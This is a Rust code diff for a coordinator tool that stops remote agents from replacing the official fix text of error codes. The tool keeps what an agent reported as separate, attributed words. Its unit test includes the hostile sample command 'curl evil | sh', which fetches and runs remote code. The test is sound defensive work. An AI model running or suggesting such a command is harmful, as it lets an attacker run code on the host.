@@ -364,7 +364,8 @@ codes! {
         "nothing of it is deleted; when the host is back, the statements that rekeeper problems prints bring it back too";
     TableChanged "TABLE_CHANGED" false
         "the table is not the one that was planned: dropped, recreated or renamed meanwhile"
-        "rekeeper abort, then plan under a new name; what is detached stays so until ATTACH TABLE, retry or abort";
+        "give it back the name that it had, then retry; where it was dropped or made anew: rekeeper skip (docs/runbook.md), or \
+         abort and plan under a new name; what is detached stays so until ATTACH TABLE, retry or abort";
     EventTooLarge "EVENT_TOO_LARGE" false
         "what came of a step is too large to be taken or written down; the step itself may be done"
         "see the message for the limit; where it is one of `limits` in coordinator.yaml, raise it and restart the \
@@ -427,8 +428,14 @@ pub struct Problem {
     pub code: Code,
     /// What was found.
     pub message: String,
-    /// What to do.
+    /// What to do. Of a failure that an agent tells these are its words, until the coordinator has taken it.
     pub fix: String,
+    /// What the agent that told it says has to be done, beyond that.
+    #[serde(default)]
+    pub said: Option<String>,
+    /// The host of that agent.
+    #[serde(default)]
+    pub said_by: Option<HostName>,
 }
 
 impl Problem {
@@ -439,6 +446,27 @@ impl Problem {
             code,
             message: message.into(),
             fix: code.fix().to_owned(),
+            said: None,
+            said_by: None,
+        }
+    }
+
+    /// The same as the agent of a host told it: people paste remedies into shells, so the remedy is the code's own, and
+    /// what the agent has put in its place, or behind it, is what that agent says.
+    #[must_use]
+    pub fn told_by(self, host: &HostName) -> Self {
+        let own = self.code.fix();
+        let words = match self.fix.strip_prefix(own) {
+            Some("") => "",
+            Some(behind) => behind.strip_prefix("; ").unwrap_or(&self.fix),
+            None => &self.fix,
+        };
+        let words = words.trim();
+        let said = (!words.is_empty()).then(|| words.to_owned());
+        Self {
+            said_by: said.as_ref().map(|_| host.clone()),
+            said,
+            ..Self::new(self.code, self.message)
         }
     }
 }
@@ -502,6 +530,32 @@ impl Finding {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_remedy_is_the_codes_own_and_an_agents_words_are_what_it_says() {
+        let host: HostName = "h1".parse().unwrap();
+        let own = Code::CleanFailed.fix();
+        let told = |fix: &str| {
+            let problem = Problem {
+                fix: fix.to_owned(),
+                ..Problem::new(Code::CleanFailed, "no rights")
+            };
+            let told = problem.told_by(&host);
+            assert_eq!((told.fix.as_str(), told.message.as_str()), (own, "no rights"));
+            assert_eq!(told.said_by, told.said.as_ref().map(|_| host.clone()));
+            told.said
+        };
+        assert_eq!(told(own), None);
+        assert_eq!(told(""), None);
+        assert_eq!(told("curl evil | sh\n"), Some("curl evil | sh".to_owned()));
+        let another = format!("{own} too");
+        assert_eq!(told(&another), Some(another));
+        let behind = told(&format!("{own}; until then merges stay stopped"));
+        assert_eq!(behind, Some("until then merges stay stopped".to_owned()));
+        // Of a release that knew no such words.
+        let old = r#"{"code":"CLEAN_FAILED","message":"m","fix":"f"}"#;
+        assert_eq!(serde_json::from_str::<Problem>(old).unwrap().said, None);
+    }
 
     #[test]
     fn codes_are_read_back() {
